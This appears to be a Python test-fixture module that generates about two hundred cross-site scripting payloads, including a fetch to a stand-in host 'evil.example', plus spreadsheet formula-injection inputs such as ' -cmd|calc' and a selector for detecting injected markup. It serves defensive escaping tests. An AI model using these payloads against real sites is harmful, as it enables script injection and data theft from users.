"""What an attacker would put where people's words are shown: two hundred strings."""

from itertools import product

BODIES = (
    *("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<iframe srcdoc='<script>{}</script>'>"),
    *(
        "javascript:{}",
        '"><script>{}</script>',
        "'-{}-'",
        "{{{{constructor.constructor('{}')()}}}}",
        "</style><script>{}",
    ),
    *("<details open ontoggle={}>", "<math><mi xlink:href='javascript:{}'>", "<a href='javascript:{}'>x</a>"),
    *("<body onload={}>", "<input autofocus onfocus={}>", "<video><source onerror={}>", "${{{}}}", "<style>*{{x:{}}}"),
    *("<object data='javascript:{}'>", "<form action='javascript:{}'><button>x", "\u2028<script>{}</script>"),
)
CALLS = ("alert(1)", "alert`1`", "window.hacked=1", "fetch('//evil.example')", "top.alert(1)")
VARIANTS = (str, str.upper)
STRINGS = tuple(variant(body.format(call)) for body, call, variant in product(BODIES, CALLS, VARIANTS))
# What a spreadsheet would run, and what it is given instead.
FORMULAS = {
    **{
        text: f"'{text}"
        for text in ("=1+1", "+1", "-1", "@sum(a1)", " -cmd|calc", "\t=1", "\r=1", "\n=1", "\u00a0=1", "\uff1d1+1")
    },
    **{text: text for text in ("plain", "a=b", "/-/", "")},
}
# Elements that only markup could have put into the page's content.
MARKUP = (
    "main script, main iframe, main img, main form:not(.controls, .vega-bindings), main object, main video, main math"
)


def turned(number: int, by: int) -> str:
    """The string of a number in a ring that is turned: each field of one event gets another."""
    return STRINGS[(number + 17 * by) % len(STRINGS)]
